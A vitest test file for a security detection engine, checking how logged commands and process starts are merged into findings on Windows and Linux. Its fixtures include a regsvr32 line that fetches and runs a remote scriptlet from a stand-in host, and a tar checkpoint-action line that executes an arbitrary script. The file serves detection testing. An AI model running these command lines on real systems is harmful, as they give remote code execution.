import { expect, it } from "vitest";
import { anEvent, aStart } from "../../test/support/events.ts";
import { findingsOf } from "../../test/support/findings.ts";
import type { Event } from "../model/event.ts";

const IMAGE = "C:\\Windows\\System32\\regsvr32.exe";
const ARGUMENTS = "/s /i:http://files.example.net/a.sct scrobj.dll";

const start = (second: number, line = `"${IMAGE}" ${ARGUMENTS}`) => aStart(second, "A", IMAGE, line);
const command = (second: number, text = `regsvr32.exe  ${ARGUMENTS}`) =>
  anEvent("commandExecution", second, { text, dialect: "commandLine", origin: "hostApplication" });

it("takes a logged command and the start of its process as one, whichever comes first", () => {
  for (const events of [
    [start(1), command(3)],
    [command(1), start(3)],
  ]) {
    const findings = findingsOf(events);
    expect(findings).toHaveLength(1);
    const [one] = events.filter(({ kind }) => kind === "processCreation");
    const [other] = events.filter(({ kind }) => kind === "commandExecution");
    expect(findings[0]?.source.index).toBe(one?.record.index);
    expect(findings[0]?.related).toContainEqual(expect.objectContaining({ index: other?.record.index, role: "same" }));
  }
});

it("keeps commands apart that differ, or that are far from the start", () => {
  expect(findingsOf([start(1), command(3, `regsvr32.exe ${ARGUMENTS} /n`)])).toHaveLength(2);
  expect(findingsOf([start(1), command(60)])).toHaveLength(2);
});

it("knows the shell that cron gives a command to", () => {
  const line = "tar cf a.tar /srv --checkpoint=1 --checkpoint-action=exec=/tmp/x.sh";
  const job = anEvent("commandExecution", 1, { platform: "linux", text: line, dialect: "sh", origin: "cron" });
  const run = anEvent("processCreation", 2, {
    platform: "linux",
    image: "/usr/bin/dash",
    commandLine: `/bin/sh -c '${line}'`,
    args: ["/bin/sh", "-c", line],
    process: { pid: 9, image: "/usr/bin/dash" },
  });
  expect(findingsOf([job])).toHaveLength(1);
  const findings = findingsOf([job, run]);
  expect(findings).toHaveLength(1);
  expect(findings[0]?.source.index).toBe(run.record.index);
});

it("does not hold it against a command that the shell which logged it is a script host", () => {
  const install = "msiexec.exe /i \\\\files01\\software\\tool\\setup.msi /qn";
  const block = anEvent("commandExecution", 1, {
    text: `Start-Process msiexec.exe -ArgumentList '/i','\\\\files01\\software\\tool\\setup.msi','/qn' -Wait`,
    dialect: "powershell",
    origin: "script block",
  });
  const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  const started = aStart(1, "A", "C:\\Windows\\System32\\msiexec.exe", install, "P", { parent: { image: powershell } });
  const reasons = (event: Event) => findingsOf([event]).flatMap(({ evidence }) => evidence.map(({ id }) => id));
  expect(reasons(block)).toContain("site-payload");
  expect(reasons(block)).not.toContain("script-parent");
  expect(reasons(started)).toContain("script-parent");
});
